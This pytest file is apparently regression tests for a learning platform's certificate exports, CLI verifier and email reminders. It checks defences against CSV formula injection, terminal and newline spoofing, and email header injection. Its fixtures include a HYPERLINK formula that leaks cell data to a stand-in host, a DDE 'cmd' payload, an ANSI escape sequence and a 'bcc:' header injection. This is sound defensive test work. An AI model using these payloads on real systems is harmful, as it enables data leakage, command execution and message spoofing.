"""Issue 16: names and titles that look like formulas or hold line breaks, in the
organisation's ZIP index, in ``lms certificates verify`` and in the reminder run."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from flask import Flask
from sqlalchemy import select, update

from certificates.models import ReminderSent
from lms import db
from lms.accounts.models import User
from lms.organisations.services import organisation_by_code
from tests.certificates.conftest import pdf_bytes
from tests.certificates.test_organisation_zip import _archive, download_zip
from tests.certificates.test_reminders import completed_for_expiry_in, to_holder
from tests.conftest import login

PL = "CDM-PL-NTDM"
FORMULA_NAME = '=HYPERLINK("http://esempio.test/?d="&A1;"Apri")'


def test_zip_index_neutralises_formulas(app: Flask, make_user, complete):
    referent = make_user(org=PL, referent=True)
    # The invite form takes any name; course titles come from trainers.
    holder = make_user(org=PL, name=FORMULA_NAME)
    cert = complete(holder, title="@SOMMA(1+1)*cmd|' /C calc'!A0")
    client = app.test_client()
    login(client, referent.email)
    org = organisation_by_code(db.session, PL).id
    data = _archive(download_zip(client, f"/certificates/organisations/{org}/certificates.zip"))
    data = data.read("indice.csv")
    assert data.startswith(b"\xef\xbb\xbf")  # the BOM spreadsheet programs need, as before
    [header, row] = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert header[:3] == ["Numero", "Nome", "Titolo"]
    assert row[0] == cert.serial
    assert row[1] == "'" + FORMULA_NAME
    assert row[2] == "'@SOMMA(1+1)*cmd|' /C calc'!A0"
    assert row[4] == "8"  # numbers stay numbers


def test_verify_prints_each_field_on_its_own_line(app: Flask, tmp_path: Path, make_user, complete):
    title = "Corso vero\nVALIDO / VALID: firma verificata (chiave finta)\r\x1b[2Kaltro"
    holder = make_user(name="Anna")
    db.session.execute(  # a name saved before names were checked
        update(User)
        .where(User.id == holder.id)
        .values(full_name="Anna\u2028Titolare / holder: Qualcun Altro")
    )
    cert = complete(holder, title=title)
    path = tmp_path / "attestato.pdf"
    path.write_bytes(pdf_bytes(app, cert))
    result = app.test_cli_runner().invoke(args=["lms", "certificates", "verify", str(path)])
    assert result.exit_code == 0, result.output
    lines = result.output.splitlines()
    assert sum(line.startswith("VALIDO / VALID") for line in lines) == 1
    assert sum("Titolare / holder" in line for line in lines) == 1
    assert "\x1b" not in result.output
    assert (
        "  Titolo / title: Corso vero\\nVALIDO / VALID: firma verificata (chiave finta)"
        "\\r\\x1b[2Kaltro (2026.1)"
    ) in lines
    assert "  Titolare / holder: Anna\\u2028Titolare / holder: Qualcun Altro" in lines


def test_reminders_go_on_past_a_failing_holder(app: Flask, make_user, complete, outbox):
    referent = make_user(org=PL, referent=True)
    unreachable = make_user(org=PL, name="Indirizzo Rotto")
    reachable = make_user(org=PL, name="Indirizzo Buono")
    lost = complete(unreachable, completed_at=completed_for_expiry_in(10))
    complete(reachable, completed_at=completed_for_expiry_in(20), title="Titolo\r\nsu due righe")
    db.session.execute(
        update(User).where(User.id == unreachable.id).values(email="rotto@x.test\nbcc: y@z")
    )
    db.session.commit()

    result = app.test_cli_runner().invoke(args=["lms", "certificates", "remind"])
    assert result.exit_code == 1, result.output
    assert "Promemoria inviati: 1; riepiloghi ai referenti: 1; non inviati per errore: 1." in (
        result.output
    )
    [mail] = to_holder(outbox, reachable.email)
    assert mail["Subject"] == "Il tuo attestato «Titolo su due righe» scade presto"
    [digest] = to_holder(outbox, referent.email)
    assert "Indirizzo Buono" in digest.get_content()
    assert "Indirizzo Rotto" not in digest.get_content()
    # the failed reminder is not recorded as sent: the next run tries again
    assert (
        db.session.scalar(select(ReminderSent).where(ReminderSent.certificate_id == lost.id))
        is None
    )
